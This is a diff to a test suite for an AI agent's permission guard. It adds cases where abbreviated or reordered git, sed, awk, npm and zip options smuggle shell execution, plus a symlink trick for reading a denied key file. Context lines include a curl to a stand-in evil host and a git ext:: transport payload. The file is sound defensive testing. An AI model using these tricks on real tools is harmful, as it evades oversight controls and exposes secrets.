@@ -87,6 +87,14 @@ const attacks: Attack[] = [
   ['git config alias', BROAD, shell("git config alias.st '!sh -c id'"), /git config guard/],
   ['git ext:: transport', BROAD, shell("git clone 'ext::sh -c touch% /tmp/pwned' x"), /ext:: transport/],
   ['git submodule foreach', BROAD, shell("git submodule foreach 'curl http://evil.test'"), /git submodule foreach guard/],
+  ['git abbreviated --output', MAIN, shell('git log --outp=/tmp/x'), /git --output guard/],
+  ['git abbreviated --ext-diff', MAIN, shell('git diff --ext-d'), /git --ext-diff guard/],
+  ['sed abbreviated --in-place', BROAD, shell('sed --in-pl s/a/b/ src/a.ts'), /sed -i guard/],
+  ['sed abbreviated --expression', BROAD, shell("sed --exp='1e id' src/a.ts"), /runs a command/],
+  ['sed option after the operands', BROAD, shell('sed s/a/b/ src/a.ts -i'), /sed -i guard/],
+  ['gawk abbreviated --source', BROAD, shell('awk --so=\'BEGIN{system("id")}\' src/a.ts'), /system\(\)/],
+  ['npm abbreviated --script-shell', BROAD, shell('npm test --script-sh=/tmp/evil'), /npm --script-shell guard/],
+  ['zip -TT', BROAD, shell("zip -T -TT 'sh -c id' a.zip src/a.ts"), /zip -TT guard/],
   ['find -exec', BROAD, shell("find . -exec cat '{}' '+'"), /find -exec guard/],
   ['find -exec with a shell script', BROAD, shell("find . -exec sh -c id ';'"), /cannot be checked/],
   ['find -execdir', BROAD, shell("find . -execdir rm x '+'"), /find -execdir guard/],
@@ -159,6 +167,7 @@ const attacks: Attack[] = [
   ['the run output directory', AUTO, writes('write_file', 'out/runs/report.json'), /protected/],
   // Deny rules, including on read-only tools.
   ['read a denied file', MAIN, reads('read_file', 'secrets/key.pem'), /deny rule 'read_file: secrets\/\*\*'/],
+  ['read a denied file through an innocent-looking symlink', MAIN, reads('read_file', 'notes.txt'), /read_file on 'secrets\/key.pem' is refused by the deny rule/],
   ['read a denied file, other case', AUTO, reads('read_file', 'SECRETS/key.pem'), /deny rule/],
   ['grep over the whole workspace reaches a denied directory', MAIN, reads('grep'), /walk would reach/],
   // web_fetch hosts.
